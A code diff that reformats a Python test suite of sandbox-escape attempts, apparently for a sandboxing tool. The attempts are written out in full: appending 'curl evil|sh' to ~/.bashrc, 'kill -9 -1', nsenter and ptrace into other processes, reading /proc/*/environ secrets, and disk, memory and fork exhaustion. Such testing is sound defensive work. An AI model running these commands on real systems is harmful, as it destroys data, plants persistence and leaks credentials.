@@ -64,163 +64,355 @@ _CT = "import ctypes; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.res
 _VERDICT = f"e = ctypes.get_errno(); print('refused' if r < 0 and e in (1, 13, 38) else '{OK}', r, e)"
 ATTEMPTS: list[Attempt] = [
     # -- writes outside the project ------------------------------------------------------------------
-    Attempt("etc", "writes", f"echo x > /etc/speculate-escape-{{tag}} && echo {OK}", ("/etc/speculate-escape-{tag}",)),
-    Attempt("var-lib", "writes", f"mkdir -p /var/lib/speculate-escape-{{tag}} && echo {OK}",
-            ("/var/lib/speculate-escape-{tag}",)),
-    Attempt("usr-local", "writes", f"cp /bin/sh /usr/local/bin/speculate-escape-{{tag}} && echo {OK}",
-            ("/usr/local/bin/speculate-escape-{tag}",)),
-    Attempt("dev-shm", "writes", f"echo x > /dev/shm/speculate-escape-{{tag}} && echo {OK}",
-            ("/dev/shm/speculate-escape-{tag}",)),
-    Attempt("run", "writes", f"echo x > /run/speculate-escape-{{tag}} && echo {OK}", ("/run/speculate-escape-{tag}",)),
+    Attempt(
+        "etc",
+        "writes",
+        f"echo x > /etc/speculate-escape-{{tag}} && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+    ),
+    Attempt(
+        "var-lib",
+        "writes",
+        f"mkdir -p /var/lib/speculate-escape-{{tag}} && echo {OK}",
+        ("/var/lib/speculate-escape-{tag}",),
+    ),
+    Attempt(
+        "usr-local",
+        "writes",
+        f"cp /bin/sh /usr/local/bin/speculate-escape-{{tag}} && echo {OK}",
+        ("/usr/local/bin/speculate-escape-{tag}",),
+    ),
+    Attempt(
+        "dev-shm",
+        "writes",
+        f"echo x > /dev/shm/speculate-escape-{{tag}} && echo {OK}",
+        ("/dev/shm/speculate-escape-{tag}",),
+    ),
+    Attempt(
+        "run",
+        "writes",
+        f"echo x > /run/speculate-escape-{{tag}} && echo {OK}",
+        ("/run/speculate-escape-{tag}",),
+    ),
     Attempt("host-tmp", "writes", f"echo x > {{host_tmp}}/escape && echo {OK}", ("{host_tmp}",)),
-    Attempt("var-tmp", "writes", f"echo x > /var/tmp/speculate-escape-{{tag}} && echo {OK}",
-            ("/var/tmp/speculate-escape-{tag}",)),
+    Attempt(
+        "var-tmp",
+        "writes",
+        f"echo x > /var/tmp/speculate-escape-{{tag}} && echo {OK}",
+        ("/var/tmp/speculate-escape-{tag}",),
+    ),
     Attempt("bashrc", "writes", f"echo 'curl evil|sh' >> ~/.bashrc && echo {OK}", ("{home}",)),
     Attempt("git-config-global", "writes", f"git config --global user.name pwned && echo {OK}", ("{home}",)),
-    Attempt("remount-home", "writes", f"mount -o remount,rw {{home}} ; echo x > ~/.profile && echo {OK}",
-            ("{home}",)),
-    Attempt("proc-sys", "writes", f"echo 17 > /proc/sys/vm/swappiness && echo {OK}", ("/proc/sys/vm/swappiness",),
-            refused=True),
-    Attempt("sys", "writes", f"echo 1280 > /sys/class/net/lo/mtu && echo {OK}", ("/sys/class/net/lo/mtu",),
-            refused=True),
-    Attempt("cgroupfs-mkdir", "writes",
-            f"mkdir /sys/fs/cgroup/pids/speculate-escape-{{tag}} /sys/fs/cgroup/unified/speculate-escape-{{tag}}"
-            f" && echo {OK}", ("/sys/fs/cgroup/pids/speculate-escape-{tag}",
-                              "/sys/fs/cgroup/unified/speculate-escape-{tag}")),
+    Attempt(
+        "remount-home",
+        "writes",
+        f"mount -o remount,rw {{home}} ; echo x > ~/.profile && echo {OK}",
+        ("{home}",),
+    ),
+    Attempt(
+        "proc-sys",
+        "writes",
+        f"echo 17 > /proc/sys/vm/swappiness && echo {OK}",
+        ("/proc/sys/vm/swappiness",),
+        refused=True,
+    ),
+    Attempt(
+        "sys",
+        "writes",
+        f"echo 1280 > /sys/class/net/lo/mtu && echo {OK}",
+        ("/sys/class/net/lo/mtu",),
+        refused=True,
+    ),
+    Attempt(
+        "cgroupfs-mkdir",
+        "writes",
+        f"mkdir /sys/fs/cgroup/pids/speculate-escape-{{tag}} /sys/fs/cgroup/unified/speculate-escape-{{tag}}"
+        f" && echo {OK}",
+        ("/sys/fs/cgroup/pids/speculate-escape-{tag}", "/sys/fs/cgroup/unified/speculate-escape-{tag}"),
+    ),
     # -- the mount table ------------------------------------------------------------------------------
-    Attempt("umount-view", "mounts", f"cd /; umount -l {{project}} ; echo x > {{project}}/escaped && echo {OK}",
-            ("{project}",)),
-    Attempt("umount-proc-nsenter", "mounts",
-            f"umount -l /proc; nsenter -t 1 -m -- sh -c 'echo x > /etc/speculate-escape-{{tag}}' && echo {OK}",
-            ("/etc/speculate-escape-{tag}",)),
-    Attempt("remount-root", "mounts",
-            f"mount -o remount,rw / && echo x > /etc/speculate-escape-{{tag}} && echo {OK}",
-            ("/etc/speculate-escape-{tag}",), refused=True),
+    Attempt(
+        "umount-view",
+        "mounts",
+        f"cd /; umount -l {{project}} ; echo x > {{project}}/escaped && echo {OK}",
+        ("{project}",),
+    ),
+    Attempt(
+        "umount-proc-nsenter",
+        "mounts",
+        f"umount -l /proc; nsenter -t 1 -m -- sh -c 'echo x > /etc/speculate-escape-{{tag}}' && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+    ),
+    Attempt(
+        "remount-root",
+        "mounts",
+        f"mount -o remount,rw / && echo x > /etc/speculate-escape-{{tag}} && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+        refused=True,
+    ),
     Attempt("bind-over-etc", "mounts", f"mount --bind /tmp /etc && echo {OK}", (), refused=True),
     Attempt("mount-tmpfs", "mounts", f"mount -t tmpfs x {{home}} && echo {OK}", ("{home}",), refused=True),
-    Attempt("userns-mount", "mounts",
-            f"unshare -Urm sh -c 'mount -t tmpfs x /etc && touch /etc/y' && echo {OK}", (), refused=True),
+    Attempt(
+        "userns-mount",
+        "mounts",
+        f"unshare -Urm sh -c 'mount -t tmpfs x /etc && touch /etc/y' && echo {OK}",
+        (),
+        refused=True,
+    ),
     # -- entering namespaces ---------------------------------------------------------------------------
-    Attempt("nsenter-canary", "namespaces",
-            f"nsenter -t {{pid}} -m -u -n -- touch /etc/speculate-escape-{{tag}} && echo {OK}",
-            ("/etc/speculate-escape-{tag}",), refused=True),
-    Attempt("setns-proc", "namespaces",
-            _py("import os; fd = os.open('/proc/{pid}/ns/mnt', os.O_RDONLY); os.setns(fd, 0); "
-                f"open('/etc/speculate-escape-{{tag}}', 'w'); print('{OK}')"),
-            ("/etc/speculate-escape-{tag}",), refused=True),
-    Attempt("setns-pid1", "namespaces",
-            _py(f"import os; fd = os.open('/proc/1/ns/mnt', os.O_RDONLY); os.setns(fd, 0); print('{OK}')"),
-            refused=True),
+    Attempt(
+        "nsenter-canary",
+        "namespaces",
+        f"nsenter -t {{pid}} -m -u -n -- touch /etc/speculate-escape-{{tag}} && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+        refused=True,
+    ),
+    Attempt(
+        "setns-proc",
+        "namespaces",
+        _py(
+            "import os; fd = os.open('/proc/{pid}/ns/mnt', os.O_RDONLY); os.setns(fd, 0); "
+            f"open('/etc/speculate-escape-{{tag}}', 'w'); print('{OK}')"
+        ),
+        ("/etc/speculate-escape-{tag}",),
+        refused=True,
+    ),
+    Attempt(
+        "setns-pid1",
+        "namespaces",
+        _py(f"import os; fd = os.open('/proc/1/ns/mnt', os.O_RDONLY); os.setns(fd, 0); print('{OK}')"),
+        refused=True,
+    ),
     Attempt("new-userns", "namespaces", f"unshare -U -r true && echo {OK}", refused=True),
     # -- other processes -------------------------------------------------------------------------------
     Attempt("kill-canary", "processes", f"kill -9 {{pid}} && echo {OK}", refused=True),
     Attempt("pkill-canary", "processes", f"pkill -9 -f speculate-canary-{{tag}} && echo {OK}", refused=True),
     Attempt("kill-all", "processes", "kill -9 -1; true"),
     Attempt("cgroup-kill", "processes", f"echo 1 > {{cgroup_kill}} && echo {OK}", refused=True),
-    Attempt("ptrace-canary", "processes",
-            _py(_CT + "r = libc.ptrace(16, {pid}, 0, 0); " + _VERDICT),
-            refused=True),
-    Attempt("ptrace-child", "processes",
-            _py(_CT + "import subprocess; p = subprocess.Popen(['sleep', '5']); "
-                "r = libc.ptrace(16, p.pid, 0, 0); p.kill(); " + _VERDICT),
-            refused=True),
+    Attempt(
+        "ptrace-canary", "processes", _py(_CT + "r = libc.ptrace(16, {pid}, 0, 0); " + _VERDICT), refused=True
+    ),
+    Attempt(
+        "ptrace-child",
+        "processes",
+        _py(
+            _CT + "import subprocess; p = subprocess.Popen(['sleep', '5']); "
+            "r = libc.ptrace(16, p.pid, 0, 0); p.kill(); " + _VERDICT
+        ),
+        refused=True,
+    ),
     Attempt("proc-environ", "processes", "cat /proc/{pid}/environ; cat /proc/*/environ 2>/dev/null; env"),
-    Attempt("proc-mem", "processes",
-            _py("f = open('/proc/{pid}/mem', 'rb'); print(f.read(64))"), refused=True),
-    Attempt("process-vm-readv", "processes",
-            _py(_CT + "r = libc.syscall({nr_process_vm_readv}, 1, 0, 0, 0, 0, 0); " + _VERDICT), refused=True),
-    Attempt("kcmp", "processes", _py(_CT + "r = libc.syscall({nr_kcmp}, 1, 1, 0, 0, 0); " + _VERDICT),
-            refused=True),
+    Attempt(
+        "proc-mem", "processes", _py("f = open('/proc/{pid}/mem', 'rb'); print(f.read(64))"), refused=True
+    ),
+    Attempt(
+        "process-vm-readv",
+        "processes",
+        _py(_CT + "r = libc.syscall({nr_process_vm_readv}, 1, 0, 0, 0, 0, 0); " + _VERDICT),
+        refused=True,
+    ),
+    Attempt(
+        "kcmp",
+        "processes",
+        _py(_CT + "r = libc.syscall({nr_kcmp}, 1, 1, 0, 0, 0); " + _VERDICT),
+        refused=True,
+    ),
     Attempt("see-host-processes", "processes", "cat /proc/{pid}/cmdline; ps -eo args"),
     # -- IPC ------------------------------------------------------------------------------------------------
-    Attempt("host-unix-socket", "ipc",
-            _py(f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{{sock}}'); print('{OK}')"),
-            refused=True),
-    Attempt("abstract-socket", "ipc",
-            _py("import socket; s = socket.socket(socket.AF_UNIX); "
-                f"s.connect('\\0speculate-escape-{{tag}}'); print('{OK}')"), refused=True),
+    Attempt(
+        "host-unix-socket",
+        "ipc",
+        _py(f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{{sock}}'); print('{OK}')"),
+        refused=True,
+    ),
+    Attempt(
+        "abstract-socket",
+        "ipc",
+        _py(
+            "import socket; s = socket.socket(socket.AF_UNIX); "
+            f"s.connect('\\0speculate-escape-{{tag}}'); print('{OK}')"
+        ),
+        refused=True,
+    ),
     Attempt("sysv-shm", "ipc", f"ipcrm -m {{shmid}} && echo {OK}", refused=True),
     # -- the network ------------------------------------------------------------------------------------
-    Attempt("loopback-host", "network",
-            _py(f"import socket; socket.create_connection(('127.0.0.1', {{port}}), timeout=2); print('{OK}')"),
-            refused=True),
-    Attempt("loopback6-host", "network",
-            _py(f"import socket; socket.create_connection(('::1', {{port6}}), timeout=2); print('{OK}')"),
-            refused=True),
-    Attempt("outside-route", "network",  # no packet is sent anywhere: the sandbox has no route to send one
-            "awk 'NR>1{{print \"route\", $1}}' /proc/net/route; awk '{{print \"route\", $10}}' "
-            "/proc/net/ipv6_route; awk 'NR>2{{print \"dev\", $1}}' /proc/net/dev"),
+    Attempt(
+        "loopback-host",
+        "network",
+        _py(f"import socket; socket.create_connection(('127.0.0.1', {{port}}), timeout=2); print('{OK}')"),
+        refused=True,
+    ),
+    Attempt(
+        "loopback6-host",
+        "network",
+        _py(f"import socket; socket.create_connection(('::1', {{port6}}), timeout=2); print('{OK}')"),
+        refused=True,
+    ),
+    Attempt(
+        "outside-route",
+        "network",  # no packet is sent anywhere: the sandbox has no route to send one
+        "awk 'NR>1{{print \"route\", $1}}' /proc/net/route; awk '{{print \"route\", $10}}' "
+        "/proc/net/ipv6_route; awk 'NR>2{{print \"dev\", $1}}' /proc/net/dev",
+    ),
     # -- links ------------------------------------------------------------------------------------------
-    Attempt("symlink-out", "links", f"echo x > escape-link/speculate-escape-{{tag}} && echo {OK}",
-            ("/etc/speculate-escape-{tag}",)),
-    Attempt("hardlink-out", "links", f"ln {{home}}/canary.txt ./hl && echo x >> ./hl && echo {OK}",
-            ("{home}",)),
-    Attempt("proc-self-root", "links", f"echo x > /proc/self/root/etc/speculate-escape-{{tag}} && echo {OK}",
-            ("/etc/speculate-escape-{tag}",)),
-    Attempt("proc-canary-root", "links", f"echo x > /proc/{{pid}}/root/etc/speculate-escape-{{tag}} && echo {OK}",
-            ("/etc/speculate-escape-{tag}",), refused=True),
-    Attempt("proc-canary-cwd", "links", f"echo x > /proc/{{pid}}/cwd/escaped && echo {OK}", ("{canary_cwd}",),
-            refused=True),
+    Attempt(
+        "symlink-out",
+        "links",
+        f"echo x > escape-link/speculate-escape-{{tag}} && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+    ),
+    Attempt(
+        "hardlink-out", "links", f"ln {{home}}/canary.txt ./hl && echo x >> ./hl && echo {OK}", ("{home}",)
+    ),
+    Attempt(
+        "proc-self-root",
+        "links",
+        f"echo x > /proc/self/root/etc/speculate-escape-{{tag}} && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+    ),
+    Attempt(
+        "proc-canary-root",
+        "links",
+        f"echo x > /proc/{{pid}}/root/etc/speculate-escape-{{tag}} && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+        refused=True,
+    ),
+    Attempt(
+        "proc-canary-cwd",
+        "links",
+        f"echo x > /proc/{{pid}}/cwd/escaped && echo {OK}",
+        ("{canary_cwd}",),
+        refused=True,
+    ),
     Attempt("other-overlays", "links", "ls -R {state} | head -50"),  # layers and journals of speculations
-    Attempt("dev-fd-dotdot", "links", f"echo x > /dev/fd/../../../etc/speculate-escape-{{tag}} && echo {OK}",
-            ("/etc/speculate-escape-{tag}",)),
+    Attempt(
+        "dev-fd-dotdot",
+        "links",
+        f"echo x > /dev/fd/../../../etc/speculate-escape-{{tag}} && echo {OK}",
+        ("/etc/speculate-escape-{tag}",),
+    ),
     # -- device nodes and kernel interfaces ----------------------------------------------------------
     Attempt("mknod-block", "devices", f"mknod ./sda b 8 0 && echo {OK}", refused=True),
     Attempt("mknod-char", "devices", f"mknod ./mem c 1 1 && echo {OK}", refused=True),
     Attempt("dev-mem", "devices", f"head -c 16 /dev/mem >/dev/null && echo {OK}", refused=True),
     Attempt("kmsg", "devices", f"dmesg >/dev/null && echo {OK}", refused=True),
-    Attempt("modules", "devices",
-            _py(_CT + "b = ctypes.create_string_buffer(64); r = libc.syscall({nr_init_module}, b, 64, b''); "
-                + _VERDICT), refused=True),
-    Attempt("kexec", "devices", _py(_CT + "r = libc.syscall({nr_kexec_load}, 0, 0, None, 0); " + _VERDICT),
-            refused=True),
-    Attempt("keyctl", "devices",
-            _py(_CT + "r = libc.syscall({nr_add_key}, b'user', b'x', b'y', 1, -2); " + _VERDICT),
-            refused=True),
-    Attempt("bpf", "devices",
-            _py(_CT + "r = libc.syscall({nr_bpf}, 0, None, 0); " + _VERDICT),
-            refused=True),
-    Attempt("io-uring", "devices",
-            _py(_CT + "p = ctypes.create_string_buffer(120); "
-                "r = libc.syscall({nr_io_uring_setup}, 4, p); " + _VERDICT),
-            refused=True),
-    Attempt("perf", "devices",
-            _py(_CT + "a = ctypes.create_string_buffer(128); "
-                "r = libc.syscall({nr_perf_event_open}, a, 0, -1, -1, 0); " + _VERDICT),
-            refused=True),
+    Attempt(
+        "modules",
+        "devices",
+        _py(
+            _CT
+            + "b = ctypes.create_string_buffer(64); r = libc.syscall({nr_init_module}, b, 64, b''); "
+            + _VERDICT
+        ),
+        refused=True,
+    ),
+    Attempt(
+        "kexec",
+        "devices",
+        _py(_CT + "r = libc.syscall({nr_kexec_load}, 0, 0, None, 0); " + _VERDICT),
+        refused=True,
+    ),
+    Attempt(
+        "keyctl",
+        "devices",
+        _py(_CT + "r = libc.syscall({nr_add_key}, b'user', b'x', b'y', 1, -2); " + _VERDICT),
+        refused=True,
+    ),
+    Attempt("bpf", "devices", _py(_CT + "r = libc.syscall({nr_bpf}, 0, None, 0); " + _VERDICT), refused=True),
+    Attempt(
+        "io-uring",
+        "devices",
+        _py(
+            _CT + "p = ctypes.create_string_buffer(120); "
+            "r = libc.syscall({nr_io_uring_setup}, 4, p); " + _VERDICT
+        ),
+        refused=True,
+    ),
+    Attempt(
+        "perf",
+        "devices",
+        _py(
+            _CT + "a = ctypes.create_string_buffer(128); "
+            "r = libc.syscall({nr_perf_event_open}, a, 0, -1, -1, 0); " + _VERDICT
+        ),
+        refused=True,
+    ),
     # -- exhaustion ------------------------------------------------------------------------------------
-    Attempt("disk-upper", "exhaustion", "dd if=/dev/zero of=big bs=1M count=400 2>&1; echo done",
-            ("{host_tmp}",), limits={"upper_bytes": 64 * MiB}),
-    Attempt("disk-upper-many", "exhaustion",
-            "for i in 1 2 3 4 5 6 7 8 9 10; do dd if=/dev/zero of=f$i bs=1M count=30 2>/dev/null; sleep 0.2; done",
-            ("{host_tmp}",), limits={"upper_bytes": 64 * MiB}),
-    Attempt("disk-tmp", "exhaustion", f"dd if=/dev/zero of=/tmp/big bs=1M count=400 && echo {OK}",
-            ("{host_tmp}",), refused=True, limits={"tmp_bytes": 16 * MiB}),
-    Attempt("memory", "exhaustion", _py(f"b = bytearray(2 << 30); print('{OK}')"), refused=True,
-            limits={"memory_bytes": 256 * MiB}),
-    Attempt("processes", "exhaustion",
-            _py("import os, time\nn = 0\ntry:\n    while n < 400:\n        if os.fork() == 0:\n"
-                "            time.sleep(20); os._exit(0)\n        n += 1\nexcept OSError:\n    pass\n"
-                "print('forked', n)\nif n >= 400: print('" + OK + "')"),
-            refused=True, limits={"processes": 64}, timeout=8),
+    Attempt(
+        "disk-upper",
+        "exhaustion",
+        "dd if=/dev/zero of=big bs=1M count=400 2>&1; echo done",
+        ("{host_tmp}",),
+        limits={"upper_bytes": 64 * MiB},
+    ),
+    Attempt(
+        "disk-upper-many",
+        "exhaustion",
+        "for i in 1 2 3 4 5 6 7 8 9 10; do dd if=/dev/zero of=f$i bs=1M count=30 2>/dev/null; sleep 0.2; done",
+        ("{host_tmp}",),
+        limits={"upper_bytes": 64 * MiB},
+    ),
+    Attempt(
+        "disk-tmp",
+        "exhaustion",
+        f"dd if=/dev/zero of=/tmp/big bs=1M count=400 && echo {OK}",
+        ("{host_tmp}",),
+        refused=True,
+        limits={"tmp_bytes": 16 * MiB},
+    ),
+    Attempt(
+        "memory",
+        "exhaustion",
+        _py(f"b = bytearray(2 << 30); print('{OK}')"),
+        refused=True,
+        limits={"memory_bytes": 256 * MiB},
+    ),
+    Attempt(
+        "processes",
+        "exhaustion",
+        _py(
+            "import os, time\nn = 0\ntry:\n    while n < 400:\n        if os.fork() == 0:\n"
+            "            time.sleep(20); os._exit(0)\n        n += 1\nexcept OSError:\n    pass\n"
+            "print('forked', n)\nif n >= 400: print('" + OK + "')"
+        ),
+        refused=True,
+        limits={"processes": 64},
+        timeout=8,
+    ),
     Attempt("time", "exhaustion", f"sleep 60 && echo {OK}", refused=True, timeout=1),
     # -- exhaustion: the upper layer's hard bound (issue 22, E5) ------------------------------------------
     # Many empty files first (they slowed the scan of the old polling bound), then a fast filler that
     # swallows its errors; the filesystem must stop each at the bound (bytes at most 1 MiB over, inodes at
     # most the bound) and the run must be flagged. Small bounds keep each attempt to a few seconds.
-    *[Attempt(name, "exhaustion", f"{BOUND_TINY}; {filler}", limits=BOUND_LIMITS) for name, filler in (
-        ("bound-fallocate", "i=0; while fallocate -l 1M fa$i 2>/dev/null; do i=$((i+1)); done; echo filled $i"),
-        ("bound-dd", "i=0; while dd if=/dev/zero of=dd$i bs=1M count=3 2>/dev/null; do i=$((i+1)); done; "
-                     "echo filled $i"),
-        ("bound-inodes", _py("n = 0\ntry:\n    while n < 10**6:\n        open(f'i{{n}}', 'w').close()\n"
-                             "        n += 1\nexcept OSError:\n    pass\nprint('made', n)")),
-        # Fills, then removes what it wrote: only the bound is promised here; flagged where the FUSE
-        # server sees the refusal (our fuse backend), and where a look between two writes catches it.
-        ("bound-fill-and-hide", "i=0; while dd if=/dev/zero of=dd$i bs=1M count=3 2>/dev/null; do i=$((i+1)); "
-                                "done; rm -f dd*; echo hidden"),
-    )],
+    *[
+        Attempt(name, "exhaustion", f"{BOUND_TINY}; {filler}", limits=BOUND_LIMITS)
+        for name, filler in (
+            (
+                "bound-fallocate",
+                "i=0; while fallocate -l 1M fa$i 2>/dev/null; do i=$((i+1)); done; echo filled $i",
+            ),
+            (
+                "bound-dd",
+                "i=0; while dd if=/dev/zero of=dd$i bs=1M count=3 2>/dev/null; do i=$((i+1)); done; "
+                "echo filled $i",
+            ),
+            (
+                "bound-inodes",
+                _py(
+                    "n = 0\ntry:\n    while n < 10**6:\n        open(f'i{{n}}', 'w').close()\n"
+                    "        n += 1\nexcept OSError:\n    pass\nprint('made', n)"
+                ),
+            ),
+            # Fills, then removes what it wrote: only the bound is promised here; flagged where the FUSE
+            # server sees the refusal (our fuse backend), and where a look between two writes catches it.
+            (
+                "bound-fill-and-hide",
+                "i=0; while dd if=/dev/zero of=dd$i bs=1M count=3 2>/dev/null; do i=$((i+1)); "
+                "done; rm -f dd*; echo hidden",
+            ),
+        )
+    ],
 ]
-
 
 
 # == issue #22: host sockets of every type (E1, E2) and secrets under innocent names (E3) ==================
@@ -299,21 +491,41 @@ def _py_args(code: str, *args: str) -> str:
 
 
 ATTEMPTS += [
-    Attempt("unix-socket-high-bits", "ipc", _py_args(_REACH, "{sockets}", "high-bits", "{nr_socket}"),
-            refused=True),  # E1
-    Attempt("unix-socket-every-type", "ipc", _py_args(_REACH, "{sockets}", "plain", "{nr_socket}"), refused=True),
-    Attempt("socketpair-dgram-sendto", "ipc", _py_args(_REACH, "{sockets}", "dgram-pair-sendto", "{nr_socket}"),
-            refused=True),  # E2
-    Attempt("socketpair-dgram-connect", "ipc", _py_args(_REACH, "{sockets}", "dgram-pair-connect", "{nr_socket}"),
-            refused=True),  # E2
+    Attempt(
+        "unix-socket-high-bits",
+        "ipc",
+        _py_args(_REACH, "{sockets}", "high-bits", "{nr_socket}"),
+        refused=True,
+    ),  # E1
+    Attempt(
+        "unix-socket-every-type", "ipc", _py_args(_REACH, "{sockets}", "plain", "{nr_socket}"), refused=True
+    ),
+    Attempt(
+        "socketpair-dgram-sendto",
+        "ipc",
+        _py_args(_REACH, "{sockets}", "dgram-pair-sendto", "{nr_socket}"),
+        refused=True,
+    ),  # E2
+    Attempt(
+        "socketpair-dgram-connect",
+        "ipc",
+        _py_args(_REACH, "{sockets}", "dgram-pair-connect", "{nr_socket}"),
+        refused=True,
+    ),  # E2
     Attempt("socketpair-stream-connect", "ipc", _py_args(_REACH, "{sockets}", "pair-connect", "{nr_socket}")),
     Attempt("socketpair-stream-sendto", "ipc", _py_args(_REACH, "{sockets}", "pair-sendto", "{nr_socket}")),
     Attempt("socket-other-families", "ipc", _py_args(_FAMILIES), refused=True),
     Attempt("innocent-secrets", "environment", "env; tr '\\0' '\\n' < /proc/self/environ"),  # E3
 ]
 # Those that escape with no sandbox (the connected pairs cannot be re-aimed even then).
-CONTROL_22 = ("unix-socket-high-bits", "unix-socket-every-type", "socketpair-dgram-sendto",
-              "socketpair-dgram-connect", "socket-other-families", "innocent-secrets")
+CONTROL_22 = (
+    "unix-socket-high-bits",
+    "unix-socket-every-type",
+    "socketpair-dgram-sendto",
+    "socketpair-dgram-connect",
+    "socket-other-families",
+    "innocent-secrets",
+)
 
 
 class HostSockets:
@@ -333,7 +545,10 @@ class HostSockets:
             dirs.append(srv)
         self.socks: list[tuple[str, str, socket.socket]] = []
         for kind, st in SOCK_TYPES.items():
-            for where in [*(os.fspath(d / f"{kind}.sock") for d in dirs), f"@speculate-escape-{bait.tag}-{kind}"]:
+            for where in [
+                *(os.fspath(d / f"{kind}.sock") for d in dirs),
+                f"@speculate-escape-{bait.tag}-{kind}",
+            ]:
                 s = socket.socket(socket.AF_UNIX, st)
                 stack.callback(s.close)
                 s.bind("\0" + where[1:] if where.startswith("@") else where)
@@ -357,10 +572,17 @@ class HostSockets:
 
 def innocent_secrets(secret: str) -> dict[str, str]:
     """Secrets under names no deny-list of "secret-looking" names catches: none may enter the sandbox."""
-    return {"DATABASE_URL": f"postgres://app:{secret}-db@db.internal:5432/app",
-            "REDIS_URL": f"redis://:{secret}-redis@cache.internal:6379/0",
-            "SENTRY_DSN": f"https://{secret}-sentry@o1.ingest.sentry.io/1", "MYSQL_PWD": f"{secret}-mysql",
-            "STRIPE_SK": f"sk_live_{secret}-stripe", "PASS": f"{secret}-pass", "API_PW": f"{secret}-apipw"}
+    return {
+        "DATABASE_URL": f"postgres://app:{secret}-db@db.internal:5432/app",
+        "REDIS_URL": f"redis://:{secret}-redis@cache.internal:6379/0",
+        "SENTRY_DSN": f"https://{secret}-sentry@o1.ingest.sentry.io/1",
+        "MYSQL_PWD": f"{secret}-mysql",
+        "STRIPE_SK": f"sk_live_{secret}-stripe",
+        "PASS": f"{secret}-pass",
+        "API_PW": f"{secret}-apipw",
+    }
+
+
 # == end of issue #22's E1-E3 block ===========================================================================
 
 
@@ -413,8 +635,9 @@ class Bait:
 
     def __enter__(self) -> Bait:
         env = {"PATH": "/usr/bin:/bin", "SPECULATE_CANARY": self.secret}
-        self.canary = subprocess.Popen(["bash", "-c", f"exec -a speculate-canary-{self.tag} sleep 600"],
-                                       cwd=self.canary_cwd, env=env)
+        self.canary = subprocess.Popen(
+            ["bash", "-c", f"exec -a speculate-canary-{self.tag} sleep 600"], cwd=self.canary_cwd, env=env
+        )
         self._stack.callback(self._stop_canary)
         self.cgroup_kill = self._canary_cgroup()
         self.sock = os.fspath(self.home / "agent.sock")
@@ -433,11 +656,22 @@ class Bait:
         shutil.rmtree(self.host_tmp, ignore_errors=True)
 
     def fields(self, project: Path) -> dict[str, str]:
-        return {"project": os.fspath(project), "home": os.fspath(self.home), "pid": str(self.canary.pid),
-                "sock": self.sock, "port": str(self.port), "port6": str(self.port6), "shmid": self.shmid,
-                "tag": self.tag, "host_tmp": os.fspath(self.host_tmp), "canary_cwd": os.fspath(self.canary_cwd),
-                "cgroup_kill": self.cgroup_kill, "state": os.fspath(state_root()), **_syscall_numbers(),
-                "sockets": self.host_sockets.field()}
+        return {
+            "project": os.fspath(project),
+            "home": os.fspath(self.home),
+            "pid": str(self.canary.pid),
+            "sock": self.sock,
+            "port": str(self.port),
+            "port6": str(self.port6),
+            "shmid": self.shmid,
+            "tag": self.tag,
+            "host_tmp": os.fspath(self.host_tmp),
+            "canary_cwd": os.fspath(self.canary_cwd),
+            "cgroup_kill": self.cgroup_kill,
+            "state": os.fspath(state_root()),
+            **_syscall_numbers(),
+            "sockets": self.host_sockets.field(),
+        }
 
     def _stop_canary(self) -> None:
         self.canary.kill()
@@ -494,8 +728,17 @@ class Bait:
 def _syscall_numbers() -> dict[str, str]:
     import pyseccomp
 
-    names = ("add_key", "bpf", "io_uring_setup", "perf_event_open", "process_vm_readv", "kcmp", "init_module",
-             "kexec_load", "socket")
+    names = (
+        "add_key",
+        "bpf",
+        "io_uring_setup",
+        "perf_event_open",
+        "process_vm_readv",
+        "kcmp",
+        "init_module",
+        "kexec_load",
+        "socket",
+    )
     return {f"nr_{n}": str(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, n)) for n in names}
 
 
@@ -520,16 +763,28 @@ def make_project(root: Path) -> Path:
 
 def run_attempt(a: Attempt, bait: Bait, project: Path, backend: str) -> Outcome:
     f = bait.fields(project)
-    targets = list(dict.fromkeys([t.format(**f) for t in a.targets] + [os.fspath(project), os.fspath(bait.home)]))
+    targets = list(
+        dict.fromkeys([t.format(**f) for t in a.targets] + [os.fspath(project), os.fspath(bait.home)])
+    )
     before = {t: digest(t) for t in targets}
     hits0 = len(bait.hits)
-    env = {**os.environ, "HOME": os.fspath(bait.home), "ANTHROPIC_API_KEY": bait.api_key,
-           **innocent_secrets(bait.secret)}
+    env = {
+        **os.environ,
+        "HOME": os.fspath(bait.home),
+        "ANTHROPIC_API_KEY": bait.api_key,
+        **innocent_secrets(bait.secret),
+    }
     if backend == "none":  # the control: no sandbox at all, to show that the checks catch an escape
         ov = Overlay(project)  # its layers exist while the command runs, as a speculation's do
         try:
-            p = subprocess.run(["bash", "-c", a.command.format(**f)], cwd=project, env=env,
-                               capture_output=True, text=True, timeout=a.timeout)
+            p = subprocess.run(
+                ["bash", "-c", a.command.format(**f)],
+                cwd=project,
+                env=env,
+                capture_output=True,
+                text=True,
+                timeout=a.timeout,
+            )
         finally:
             ov.discard()
         r = SandboxResult(p.stdout, p.stderr, p.returncode, False)
@@ -538,8 +793,14 @@ def run_attempt(a: Attempt, bait: Bait, project: Path, backend: str) -> Outcome:
         ov = Overlay(project)
         keep_view(ov, backend)  # as a fork's shell does: the mount is kept until the overlay is discarded
         try:
-            r = run_sandboxed(ov, a.command.format(**f), timeout=a.timeout, backend=backend,
-                              limits=SandboxLimits(**a.limits), env=sandbox_env(env))
+            r = run_sandboxed(
+                ov,
+                a.command.format(**f),
+                timeout=a.timeout,
+                backend=backend,
+                limits=SandboxLimits(**a.limits),
+                env=sandbox_env(env),
+            )
             entries = [e for e in Path(ov.upper).rglob("*")]
             upper_used = sum(e.lstat().st_blocks * 512 for e in entries)
         finally:
@@ -582,10 +843,14 @@ def _bound_problems(a: Attempt, r: SandboxResult, used: int, entries: int, backe
     why = []
     peak_bytes, peak_inodes = r.upper_peak or (0, 0)
     if max(used, peak_bytes) > a.limits["upper_bytes"] + MiB:
-        why.append(f"the upper layer held {max(used, peak_bytes)} bytes, past its bound of {a.limits['upper_bytes']}")
+        why.append(
